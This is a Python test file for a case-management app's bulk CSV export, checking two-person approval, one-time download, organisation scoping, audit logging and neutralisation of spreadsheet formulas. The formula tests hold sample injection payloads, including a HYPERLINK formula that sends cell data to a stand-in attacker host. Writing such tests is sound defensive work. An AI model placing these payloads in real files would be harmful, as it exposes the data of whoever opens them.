"""Bulk export needs a second person: the requester never approves their own request, roles that do not work on
cases cannot ask, only the requester downloads, once, within 24 hours; the CSV holds the organisation's own
matching cases, decrypted and neutralised against formulas; every step is audited with ids only."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from mosty.accounts.models import Role
from mosty.accounts.selectors import Viewer
from mosty.accounts.tests.factories import login_verified, make_member, make_organisation
from mosty.cases import exports, services
from mosty.cases.exports import (
    COLUMNS,
    ExportAlreadyDecided,
    ExportAlreadyDownloaded,
    ExportExpired,
    ExportNotApproved,
    ExportSelfApproval,
    access_export_by_id,
    csv_cell,
    export_decide,
    export_download,
    export_request_create,
)
from mosty.cases.models import Case, ExportRequest, ExportStatus
from mosty.cases.selectors import CaseFilters
from mosty.cases.tests.factories import access
from mosty.core.crypto.keyring import acting_as
from mosty.core.exceptions import NotFound, PermissionDenied, ValidationFailed
from mosty.core.models import AuditEvent
from mosty.registry.models import Region, SupportType
from mosty.registry.tests.factories import viewer_of

pytestmark = pytest.mark.django_db


def _member(organisation: Any, role: str) -> Viewer:
    return viewer_of(organisation, role, user=make_member(organisation, role))


@pytest.fixture
def org() -> Any:
    return make_organisation()


@pytest.fixture
def requester(org) -> Viewer:
    return _member(org, Role.CASEWORKER)


@pytest.fixture
def approver(org) -> Viewer:
    return _member(org, Role.COORDINATOR)


def _case(viewer: Viewer, *, support_type: str = "legal-aid", region: str | None = "RU-TA", **person: str) -> Case:
    data = {
        "family_name": "Шевченко",
        "given_name": "Олександр",
        "patronymic": "Петрович",
        "birth_date": "1987-05-31",
        "contact": "Signal: @shev",
    }
    data.update(person)
    summary = data.pop("summary", "Needs a lawyer.")
    with acting_as(viewer.organisation_id):
        person_row = services.person_create(
            viewer=viewer, organisation=viewer.organisation, data=services.PersonInput(**data)
        )
        return services.case_create(
            viewer=viewer,
            organisation=viewer.organisation,
            person=person_row,
            data=services.CaseInput(
                support_type=SupportType.objects.get(slug=support_type),
                summary=summary,
                risk=3,
                urgency=2,
                region=Region.objects.get(code=region) if region else None,
            ),
        )


def _approved(requester: Viewer, approver: Viewer, filters: CaseFilters | None = None) -> ExportRequest:
    export = export_request_create(
        viewer=requester, reason="Quarterly report to the donor", filters=filters or CaseFilters(scope="all")
    )
    return export_decide(viewer=approver, export=export, approve=True)


def _table(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


# --- who may ask, who may decide ----------------------------------------------------------------------------------


def test_the_requester_can_never_approve_their_own(org, approver) -> None:
    admin = _member(org, Role.ORG_ADMIN)
    export = export_request_create(viewer=admin, reason="Audit by the board", filters=CaseFilters(scope="all"))
    with pytest.raises(ExportSelfApproval):
        export_decide(viewer=admin, export=export, approve=True)
    export.refresh_from_db()
    assert export.status == ExportStatus.REQUESTED
    assert export not in exports.export_requests_to_decide(admin)
    assert export in exports.export_requests_to_decide(approver)


@pytest.mark.parametrize("role", [Role.VIEWER, Role.DOCUMENTER, Role.PROGRAMME_OFFICER])
def test_roles_that_do_not_work_on_cases_cannot_ask(org, role) -> None:
    with pytest.raises(PermissionDenied):
        export_request_create(viewer=_member(org, role), reason="Curious", filters=CaseFilters(scope="all"))
    assert not ExportRequest.objects.exists()


@pytest.mark.parametrize("role", [Role.CASEWORKER, Role.PROGRAMME_OFFICER])
def test_only_administrators_and_coordinators_approve(org, requester, role) -> None:
    export = export_request_create(viewer=requester, reason="Report", filters=CaseFilters(scope="all"))
    with pytest.raises(PermissionDenied):
        export_decide(viewer=_member(org, role), export=export, approve=True)
    admin = _member(org, Role.ORG_ADMIN)
    assert export_decide(viewer=admin, export=export, approve=True).status == ExportStatus.APPROVED


def test_another_organisation_never_sees_or_decides_a_request(requester) -> None:
    export = export_request_create(viewer=requester, reason="Report", filters=CaseFilters(scope="all"))
    stranger = _member(make_organisation(), Role.ORG_ADMIN)
    with pytest.raises(NotFound):
        access_export_by_id(stranger, export.pk)
    with pytest.raises(NotFound):
        export_decide(viewer=stranger, export=export, approve=True)
    assert not exports.export_requests_to_decide(stranger).exists()


def test_a_request_is_decided_once(requester, approver, org) -> None:
    export = export_request_create(viewer=requester, reason="Report", filters=CaseFilters(scope="all"))
    export_decide(viewer=approver, export=export, approve=False)
    with pytest.raises(ExportAlreadyDecided):
        export_decide(viewer=_member(org, Role.ORG_ADMIN), export=export, approve=True)
    export.refresh_from_db()
    assert export.status == ExportStatus.REJECTED
    with pytest.raises(ExportNotApproved):
        export_download(viewer=requester, export=export)


def test_names_and_birth_dates_are_refused_in_the_filters(requester) -> None:
    for filters in (
        CaseFilters(scope="all", family_name="Шевченко"),
        CaseFilters(scope="all", given_name="Олександр"),
        CaseFilters(scope="all", birth_date=dt.date(1987, 5, 31)),
    ):
        with pytest.raises(ValidationFailed) as caught:
            export_request_create(viewer=requester, reason="Find him", filters=filters)
        assert "name or birth date" in " ".join(caught.value.errors["__all__"])
    with pytest.raises(ValidationFailed):
        export_request_create(viewer=requester, reason="Theirs", filters=CaseFilters(scope="referred"))
    with pytest.raises(ValidationFailed):
        export_request_create(viewer=requester, reason="  ", filters=CaseFilters(scope="all"))
    assert not ExportRequest.objects.exists()


def test_filters_are_stored_as_codes(requester) -> None:
    legal = SupportType.objects.get(slug="legal-aid")
    export = export_request_create(
        viewer=requester,
        reason="Legal aid report",
        filters=CaseFilters(scope="closed", support_type=legal, state="closed_done", risk=3, deadline_within_days=7),
    )
    assert ExportRequest.objects.values_list("filters", flat=True).get(pk=export.pk) == {
        "scope": "closed",
        "support_type": "legal-aid",
        "state": "closed_done",
        "risk": 3,
        "deadline_within_days": 7,
    }


# --- the download -------------------------------------------------------------------------------------------------


def test_only_the_requester_downloads_and_only_once(org, requester, approver) -> None:
    _case(requester)
    export = _approved(requester, approver)
    for other in (approver, _member(org, Role.CASEWORKER), _member(make_organisation(), Role.CASEWORKER)):
        with pytest.raises(NotFound):
            export_download(viewer=other, export=export)
    file = export_download(viewer=requester, export=export)
    assert file.rows == 1
    export.refresh_from_db()
    assert export.status == ExportStatus.DOWNLOADED
    assert export.downloaded_at is not None
    with pytest.raises(ExportAlreadyDownloaded):
        export_download(viewer=requester, export=export)


def test_a_pending_request_cannot_be_downloaded(requester) -> None:
    export = export_request_create(viewer=requester, reason="Report", filters=CaseFilters(scope="all"))
    with pytest.raises(ExportNotApproved):
        export_download(viewer=requester, export=export)


def test_the_download_window_is_24_hours(requester, approver) -> None:
    _case(requester)
    fresh, stale = _approved(requester, approver), _approved(requester, approver)
    now = timezone.now()
    ExportRequest.objects.filter(pk=fresh.pk).update(decided_at=now - dt.timedelta(hours=23, minutes=50))
    ExportRequest.objects.filter(pk=stale.pk).update(decided_at=now - dt.timedelta(hours=24, minutes=1))
    fresh.refresh_from_db()
    stale.refresh_from_db()
    assert exports.shown_status(stale) == ExportStatus.EXPIRED
    assert exports.is_downloadable(fresh)

    with pytest.raises(ExportExpired):
        export_download(viewer=requester, export=stale)
    stale.refresh_from_db()
    assert stale.status == ExportStatus.EXPIRED
    assert AuditEvent.objects.filter(action="cases.export.expired", object_id=str(stale.pk)).exists()
    with pytest.raises(ExportExpired):
        export_download(viewer=requester, export=stale)
    assert export_download(viewer=requester, export=fresh).rows == 1


def test_a_demoted_requester_cannot_download(org, requester, approver) -> None:
    export = _approved(requester, approver)
    demoted = Viewer(user=requester.user, organisation=org, role=Role.VIEWER)
    with pytest.raises(PermissionDenied):
        export_download(viewer=demoted, export=export)


def test_the_csv_holds_the_own_matching_cases_decrypted(org, requester, approver) -> None:
    kept = _case(requester, family_name="Коваленко", given_name="Оксана", contact="+380 44 000 00 00")
    _case(requester, support_type="evacuation", family_name="Smirnova")  # another support type
    closed = _case(requester, family_name="Bondarenko")
    with acting_as(org.pk):
        services.case_transition(viewer=requester, access=access(requester, closed), to_state="closed_declined")
    other = viewer_of(make_organisation(), Role.CASEWORKER)
    _case(other, family_name="Чужий")  # another organisation's
    legal = SupportType.objects.get(slug="legal-aid")

    export = _approved(requester, approver, CaseFilters(scope="queue", support_type=legal))
    assert exports.export_preview_count(export) == 1
    file = export_download(viewer=requester, export=export)

    table = _table(file.content)
    assert table[0] == list(COLUMNS)
    assert len(table) == 2
    row = dict(zip(COLUMNS, table[1], strict=True))
    with acting_as(org.pk):
        label = Case.objects.select_related("person").get(pk=kept.pk).person.label
    assert row == {
        "reference": kept.reference,
        "support_type": "legal-aid",
        "state": "new",
        "risk": "3",
        "urgency": "2",
        "triage_score": str(kept.triage_score),
        "opened": timezone.localdate().isoformat(),
        "closed": "",
        "region": "RU-TA",
        "person_label": label,
        "family_name": "Коваленко",
        "given_name": "Оксана",
        "patronymic": "Петрович",
        "birth_date": "1987-05-31",
        "contact": "'+380 44 000 00 00",
        "summary": "Needs a lawyer.",
    }
    assert file.filename.startswith("cases-")
    assert file.filename.endswith(".csv")
    assert "Коваленко" not in file.filename


def test_scope_all_holds_open_and_closed_but_never_referred_cases(org, requester, approver) -> None:
    _case(requester)
    closed = _case(requester, family_name="Bondarenko")
    with acting_as(org.pk):
        services.case_transition(viewer=requester, access=access(requester, closed), to_state="closed_declined")
    export = _approved(requester, approver, CaseFilters(scope="all"))
    assert export_download(viewer=requester, export=export).rows == 2


def test_an_export_too_large_is_refused_before_anything_is_used_up(requester, approver, monkeypatch) -> None:
    _case(requester)
    export = _approved(requester, approver)
    _case(requester, family_name="Bondarenko")
    monkeypatch.setattr(exports, "MAX_EXPORT_ROWS", 1)
    with pytest.raises(exports.ExportTooLarge):
        export_download(viewer=requester, export=export)
    export.refresh_from_db()
    assert export.status == ExportStatus.APPROVED
    assert exports.is_downloadable(export)
    with pytest.raises(ValidationFailed) as caught:
        export_request_create(viewer=requester, reason="Everything", filters=CaseFilters(scope="all"))
    assert "more than 1 cases" in caught.value.errors["__all__"][0]
    legal = SupportType.objects.get(slug="evacuation")
    assert export_request_create(
        viewer=requester, reason="Evacuations", filters=CaseFilters(scope="all", support_type=legal)
    )


def test_formulas_are_neutralised() -> None:
    for dangerous in ('=HYPERLINK("http://x")', "+1+1", "-1", "@SUM(A1)", "\t=1", " =1", "\uff1d1"):
        assert csv_cell(dangerous).startswith("'"), dangerous
    assert csv_cell("Коваленко") == "Коваленко"
    assert csv_cell(None) == ""
    assert csv_cell(dt.date(1987, 5, 31)) == "1987-05-31"


def test_formulas_in_decrypted_fields_are_neutralised_in_the_file(requester, approver) -> None:
    _case(requester, family_name='=HYPERLINK("http://evil.example/?"&A1)', given_name="@cmd", summary="-2+3")
    file = export_download(viewer=requester, export=_approved(requester, approver))
    row = dict(zip(COLUMNS, _table(file.content)[1], strict=True))
    assert row["family_name"] == '\'=HYPERLINK("http://evil.example/?"&A1)'
    assert row["given_name"] == "'@cmd"
    assert row["summary"] == "'-2+3"


def test_every_step_is_audited_with_ids_only(requester, approver) -> None:
    _case(requester)
    export = export_request_create(viewer=requester, reason="Board review", filters=CaseFilters(scope="all"))
    export_decide(viewer=approver, export=export, approve=True)
    export_download(viewer=requester, export=export)
    rejected = export_request_create(viewer=requester, reason="Second look", filters=CaseFilters(scope="all"))
    export_decide(viewer=approver, export=rejected, approve=False)

    events = list(AuditEvent.objects.filter(action__startswith="cases.export.").order_by("seq"))
    assert [(e.action, e.object_id, e.actor_id) for e in events] == [
        ("cases.export.requested", str(export.pk), requester.user.pk),
        ("cases.export.approved", str(export.pk), approver.user.pk),
        ("cases.export.downloaded", str(export.pk), requester.user.pk),
        ("cases.export.requested", str(rejected.pk), requester.user.pk),
        ("cases.export.rejected", str(rejected.pk), approver.user.pk),
    ]
    assert {e.object_type for e in events} == {"export_request"}
    assert {e.organisation_id for e in events} == {requester.organisation_id}


# --- the page -----------------------------------------------------------------------------------------------------


def test_the_page_flow_request_approve_download_once(client, requester, approver) -> None:
    _case(requester, family_name="Коваленко")
    url = reverse("case_exports:list")
    login_verified(client, requester.user)
    response = client.post(url, {"reason": "Donor report", "scope": "all"})
    assert response.status_code == 302
    export = ExportRequest.objects.get()
    assert export.requested_by == requester.user
    body = client.get(url).content.decode()
    assert "Waiting for approval" in body
    assert "Donor report" in body
    # The requester's own decision is refused, and the page does not offer it.
    client.post(reverse("case_exports:decide", args=[export.pk]), {"decision": "approve"})
    export.refresh_from_db()
    assert export.status == ExportStatus.REQUESTED

    client.logout()
    login_verified(client, approver.user)
    body = client.get(url).content.decode()
    assert "Donor report" in body
    assert requester.user.username in body
    assert reverse("case_exports:decide", args=[export.pk]) in body
    assert client.post(reverse("case_exports:decide", args=[export.pk]), {"decision": "approve"}).status_code == 302
    assert client.post(reverse("case_exports:download", args=[export.pk])).status_code == 404

    client.logout()
    login_verified(client, requester.user)
    download = reverse("case_exports:download", args=[export.pk])
    assert download in client.get(url).content.decode()
    assert client.get(download).status_code == 405  # a link a prefetcher could follow would use it up
    response = client.post(download)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="cases-')
    assert response["Cache-Control"] == "no-store"
    assert "Коваленко" in response.content.decode("utf-8-sig")
    again = client.post(download)
    assert again.status_code == 302
    assert "already downloaded" in client.get(url).content.decode()


def test_the_page_marks_expired_exports(client, requester, approver) -> None:
    export = _approved(requester, approver)
    ExportRequest.objects.filter(pk=export.pk).update(decided_at=timezone.now() - dt.timedelta(days=2))
    login_verified(client, requester.user)
    body = client.get(reverse("case_exports:list")).content.decode()
    assert "Expired" in body
    assert reverse("case_exports:download", args=[export.pk]) not in body


def test_the_form_has_no_name_fields(client, requester) -> None:
    login_verified(client, requester.user)
    body = client.get(reverse("case_exports:list")).content.decode()
    assert 'name="reason"' in body
    for field in ("family_name", "given_name", "birth_date"):
        assert f'name="{field}"' not in body
    response = client.post(reverse("case_exports:list"), {"reason": "", "scope": "all"})
    assert response.status_code == 400
    assert not ExportRequest.objects.exists()


@pytest.mark.parametrize("role", [Role.VIEWER, Role.DOCUMENTER])
def test_roles_without_case_work_get_404(client, org, role) -> None:
    user = make_member(org, role)
    login_verified(client, user)
    assert client.get(reverse("case_exports:list")).status_code == 404
    assert client.post(reverse("case_exports:list"), {"reason": "x", "scope": "all"}).status_code == 404
    assert not ExportRequest.objects.exists()


def test_the_page_costs_the_same_queries_for_one_request_or_many(client, requester, approver) -> None:
    export_request_create(viewer=requester, reason="One", filters=CaseFilters(scope="all"))
    login_verified(client, requester.user)
    url = reverse("case_exports:list")
    client.get(url)
    with CaptureQueriesContext(connection) as one:
        assert client.get(url).status_code == 200
    for n in range(4):
        _approved(requester, approver).pk  # noqa: B018
        export_request_create(viewer=requester, reason=f"More {n}", filters=CaseFilters(scope="closed"))
    with CaptureQueriesContext(connection) as many:
        assert client.get(url).status_code == 200
    assert len(many.captured_queries) == len(one.captured_queries)
